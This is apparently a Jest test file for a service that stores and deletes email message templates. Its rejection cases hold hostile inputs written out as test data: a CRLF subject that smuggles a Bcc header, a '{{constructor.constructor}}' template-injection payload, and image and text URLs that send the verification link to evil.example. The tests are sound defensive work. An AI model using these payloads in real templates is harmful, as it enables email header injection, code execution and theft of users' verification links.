import { describe, expect, it } from '@jest/globals';
import { type MessageTemplate, supportedLocales } from '#contracts';
import { FakeClock, tenantContext } from '#testing';
import { InMemoryUnitOfWork, inTransactions, saving } from '#testing/fakes';
import { defaultTemplate } from '../../messages/default-templates.js';
import { FakeOutbox, FakeTemplateStore } from '../../test/fakes.js';
import { DeleteTemplateUseCase } from '../delete-template/delete-template.use-case.js';
import { PutTemplateUseCase } from './put-template.use-case.js';

const good: MessageTemplate = { name: 'verify-email', locale: 'en', subject: 'Hello', text: '{{link}}', html: '<a href="{{link}}">x</a>' };
const given = () => {
  const store = inTransactions(new FakeTemplateStore());
  const outbox = inTransactions(new FakeOutbox());
  const unitOfWork = new InMemoryUnitOfWork(saving(store, outbox));
  const context = tenantContext();
  const put = new PutTemplateUseCase(unitOfWork, store, outbox, new FakeClock());
  return { store, outbox, context, put, remove: new DeleteTemplateUseCase(unitOfWork, store, outbox) };
};

describe('putting a template', () => {
  it.each<[string, Partial<MessageTemplate>, string]>([
    ['for a message that is not sent', { name: 'newsletter' }, '/name'],
    ['in no language', { locale: 'not a language' }, '/locale'],
    ['without a subject', { subject: ' ' }, '/subject'],
    ['with a subject of two lines', { subject: 'Hello\r\nBcc: all@example.com' }, '/subject'],
    ['with a subject of 201 characters', { subject: 'x'.repeat(201) }, '/subject'],
    ['whose text hides the link', { text: 'no link' }, '/text'],
    ['whose page shows the link only sometimes', { html: '{{#logo}}{{link}}{{/logo}}' }, '/html'],
    ['that would run code', { html: '{{constructor.constructor}} {{link}}' }, '/html'],
    ['that does not escape', { html: '{{{name}}} {{link}}' }, '/html'],
    ['that is too long', { html: `{{link}}${'x'.repeat(20_000)}` }, '/html'],
    ['that would tell the link to a server of pictures', { html: '<img src="https://evil.example/?{{link}}">{{link}}' }, '/html'],
    ['with the link in an address of the text', { text: 'https://evil.example/?{{link}}' }, '/text'],
    ['with the link in the subject', { subject: '{{link}}' }, '/subject'],
    ['with NUL', { text: '{{link}}\0' }, '/text'],
  ])('refuses one %s', async (_, part, pointer) => {
    const { put, context, store, outbox } = given();
    await expect(put.execute(context, { ...good, ...part })).rejects.toMatchObject({
      code: 'invalid_argument',
      members: [expect.objectContaining({ pointer })],
    });
    expect([store.templates.size, outbox.events]).toEqual([0, []]);
  });

  it('refuses more than a hundred, but replaces one that is there', async () => {
    const { put, context, store } = given();
    for (let index = 0; index < 100; index += 1) store.templates.set(`x ${index}`, { ...good, version: 1 });
    await expect(put.execute(context, good)).rejects.toMatchObject({ code: 'conflict' });
    store.templates.set('verify-email en', { ...good, version: 4 });
    await expect(put.execute(context, good)).resolves.toEqual({ ...good, version: 5 });
  });

  it('stores it under the canonical form of its language', async () => {
    const { put, context } = given();
    await expect(put.execute(context, { ...good, locale: 'DE-at' })).resolves.toEqual({ ...good, locale: 'de-AT', version: 1 });
  });

  it("takes the platform's own", async () => {
    const { put, context } = given();
    for (const locale of supportedLocales) {
      const template = defaultTemplate('verify-email', locale);
      if (template === null) throw new Error(`no default in ${locale}`);
      await expect(put.execute(context, template)).resolves.toMatchObject(template);
    }
  });
});

describe('deleting a template', () => {
  it('refuses one that is not there', async () => {
    const { remove, context } = given();
    await expect(remove.execute(context, { name: 'verify-email', locale: 'en' })).rejects.toMatchObject({ code: 'not_found' });
    await expect(remove.execute(context, { name: 'verify-email', locale: '?' })).rejects.toMatchObject({ code: 'not_found' });
  });

  it('deletes one, however its language is written', async () => {
    const { put, remove, context, outbox } = given();
    await put.execute(context, { ...good, locale: 'de-AT' });
    await expect(remove.execute(context, { name: 'verify-email', locale: 'de-at' })).resolves.toEqual({ deleted: true });
    expect(outbox.events.map(({ payload }) => payload)).toEqual([
      { name: 'verify-email', locale: 'de-AT', version: 1 },
      { name: 'verify-email', locale: 'de-AT' },
    ]);
  });
});
